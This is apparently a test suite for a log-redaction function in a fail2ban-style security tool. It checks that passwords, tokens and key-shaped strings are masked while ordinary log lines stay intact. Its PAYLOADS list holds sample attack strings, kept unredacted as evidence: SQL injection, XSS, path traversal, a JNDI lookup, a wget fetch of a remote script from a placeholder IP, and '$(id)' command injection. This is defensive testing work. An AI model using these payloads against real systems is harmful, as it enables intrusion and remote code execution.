"""Secrets do not leave the log; what an attacker sent and what anybody may read stays as it is."""

import json
import string
import time
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fail2ban_ai.redact import MARK, redact
from fail2ban_ai.training.simulator import attack

WORDS = string.ascii_letters + string.digits
OPAQUE = st.text(WORDS, min_size=10, max_size=40).filter(
    lambda t: any(c.isdigit() for c in t) and any(c.isalpha() for c in t)
)
PASSWORDS = st.text(WORDS + "!?$%*#_.:,@^ äß", min_size=6, max_size=30).filter(
    lambda t: sum(map(str.isalnum, t)) >= 5 and t.lower() not in ("undefined", "false")
)
PASSWORD_NAMES = (
    "password",
    "Passwd",
    "user[password]",
    "new-password",
    "pwd",
    "pass",
    "login.passphrase",
    "client_secret",
)
TOKEN_NAMES = (
    "token",
    "access_token",
    "csrfToken",
    "api_key",
    "apikey",
    "PHPSESSID",
    "sid",
    "X-Amz-Signature",
    "auth",
    "jwt",
)


def line(target: str, referer: str = "-") -> str:
    return f'192.0.2.1 - - [15/Mar/2026:16:06:22 +0000] "GET {target} HTTP/1.1" 200 4395 "{referer}" "Mozilla/5.0"'


def safe(text: str) -> str:
    return quote(text, safe="")


@given(st.sampled_from(PASSWORD_NAMES), PASSWORDS, st.integers(0, 2))
def test_passwords_in_queries_are_gone_however_deep(name: str, secret: str, depth: int) -> None:
    query = f"page=2&{safe(name)}={safe(secret)}&lang=de"
    hidden = safe(secret)
    for _ in range(depth):
        query, hidden = f"next={safe('/login?' + query)}&z=1", safe(hidden)
    told = redact(line(f"/login?{query}"))
    assert f"={hidden}" not in told
    assert f"%3D{hidden}" not in told
    assert MARK in told
    assert "page" in told
    assert "lang" in told
    assert told.endswith('"Mozilla/5.0"')


@given(st.sampled_from(TOKEN_NAMES), OPAQUE)
def test_tokens_are_gone_from_target_referer_json_and_headers(name: str, secret: str) -> None:
    texts = [
        line(f"/a?x=1&{name}={secret}"),
        line("/a", f"https://www.example.com/b?{name}={secret}#top"),
        json.dumps({"request": f"GET /?{name}={secret} HTTP/1.1", "status": 200}),
        json.dumps({"request": {"headers": {name: secret}}}),
        f"Authorization: Bearer {secret}",
        json.dumps({"headers": {"authorization": f"Basic {secret}", "cookie": f"a={secret}; b=1"}}),
        f"proxy: https://alice:{secret}@internal.example.com/x",
        line(f"/reset-password/{secret}1a2B3c4D"),
    ]
    for text in texts:
        told = redact(text)
        assert secret not in told, text
        assert MARK in told


@pytest.mark.parametrize(
    "text",
    [
        "eyJ" + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "AKIA" + "Z" * 16,
        "ghp_" + "a1" * 18,
        "xoxb" + "-1234567890-abc",
        "AIza" + "b" * 35,
        "sk_live_" + "4" * 24,
    ],
)
def test_keys_of_known_shape_are_gone_under_any_name(text: str) -> None:
    assert text not in redact(line(f"/hook?thing={text}&a=1"))
    assert text not in redact(line(f"/hook/{text}"))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("/verify?code=483920", f"/verify?code={MARK}"),
        (
            "/wp-login.php?action=rp&key=Ab12Cd34Ef56Gh78Ij90&login=alice",
            f"/wp-login.php?action=rp&key={MARK}&login=alice",
        ),
        ("/cart;jsessionid=AB12CD34EF56?x=1", f"/cart;jsessionid={MARK}?x=1"),
        ("auth: Password mismatch (given password: hunter2)", f"auth: Password mismatch (given password: {MARK})"),
        ('{"user":"alice","password":"hunter2"}', f'{{"user":"alice","password":"{MARK}"}}'),
    ],
)
def test_what_is_left(text: str, left: str) -> None:
    assert redact(text) == left


# The false-positive twin: ordinary lines.
@pytest.mark.parametrize(
    "text",
    [
        "/search?q=password+reset&page=2",
        "/search?q=o%27reilly&sort=price",
        "/?zip_code=12345&error_code=5012&code=404",
        "/list?key=summer-sale-2024&state=california&hash=top",
        "/a?auth=basic&token=demo&sid=3&pass=2&secret=true&session=morning",
        "/app.3f2a1b9c4d5e.js?v=20240131",
        "/docs/reset-password",
        "/blog/how-to-reset-your-password/comments",
        "/item/0c4f9a52-6a3e-4b8f-9f0e-1d2c3b4a5968",
    ],
)
def test_ordinary_requests_stay(text: str) -> None:
    assert redact(line(text)) == line(text)


@pytest.mark.parametrize(
    "text",
    [
        "sshd[1]: Failed password for alice from 192.0.2.1 port 22 ssh2",
        "sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=bob",
        "sshd[1]: Accepted publickey for bob from 192.0.2.1 port 4 ssh2: ED25519 SHA256:Zk3pX0r4Vq8wL1nB7cD2eF5gH9jK6mN0pQ3sT8uV1xY",
        "dovecot: imap-login: Aborted login (auth failed, 1 attempts): user=<alice>, rip=192.0.2.1, session=<mAF+zVJHb/El>",
        "postfix/smtpd[1]: warning: unknown[192.0.2.1]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=info",
    ],
)
def test_ordinary_log_ins_stay(text: str) -> None:
    assert redact(text) == text


Encoder = Callable[[str], str]
PAYLOADS = (
    "' OR 1=1--",
    "admin' or '1'='1",
    "') UNION SELECT user,pass FROM users#",
    "1; WAITFOR DELAY '0:0:5'--",
    "x' AND SLEEP(5) AND 'a'='a",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=index",
    "${jndi:ldap://192.0.2.9/a}",
    ";wget http://192.0.2.9/x.sh",
    "{{7*7}}",
    "$(id)",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", ["password", "token", "key", "q"])
@pytest.mark.parametrize("encode", [lambda t: t.replace(" ", "%20"), safe, lambda t: safe(safe(t)), lambda t: t])
def test_attacks_stay_readable_under_the_name_of_a_secret(payload: str, name: str, encode: Encoder) -> None:
    sent = encode(payload).replace('"', "%22")
    text = line(f"/login?user=a&{name}={sent}")
    assert redact(text) == text


@pytest.mark.parametrize("scenario", ["sqli", "stuffing_net", "low_and_slow", "scripted"])
def test_simulated_logs_stay_as_they_are(scenario: str) -> None:
    lines = [text for texts in attack(scenario, 3).lines.values() for _, text in texts]
    assert len(lines) > 300
    assert [text for text in lines[:4000] if redact(text) != text] == []


@given(st.text(max_size=600) | st.text("=&?%3dD\"' :;/abpasswordtoken", max_size=600))
def test_any_text_is_taken_and_a_second_pass_changes_nothing(text: str) -> None:
    once = redact(text)
    assert redact(once) == once


@pytest.mark.parametrize(
    "unit", ["a", "a=", "%3d", "&password=", "/reset/", '"token":"', "eyJ", "http://a:", "cookie: ", "\\", "a%3d", "%2"]
)
def test_time_is_linear(unit: str) -> None:
    def seconds(size: int) -> float:
        text = unit * (size // len(unit))
        best = 9.0
        for attempt in range(3):
            start = time.perf_counter()
            redact(text + str(attempt))
            best = min(best, time.perf_counter() - start)
        return best

    assert seconds(16_000) < 0.02 + 24 * seconds(2_000)
